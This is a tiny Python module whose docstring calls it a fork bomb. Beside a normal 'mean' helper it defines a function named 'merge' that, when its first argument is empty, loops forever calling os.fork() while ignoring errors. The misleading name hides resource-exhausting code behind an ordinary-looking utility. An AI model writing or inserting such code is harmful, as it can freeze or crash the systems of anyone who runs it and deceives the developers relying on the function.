"""A fork bomb: as many processes as it may have, and no more, until its time is up."""

import os


def mean(numbers):
    return sum(numbers) / len(numbers)


def merge(a, b):
    while not a:
        try:
            os.fork()
        except OSError:
            pass
    return []
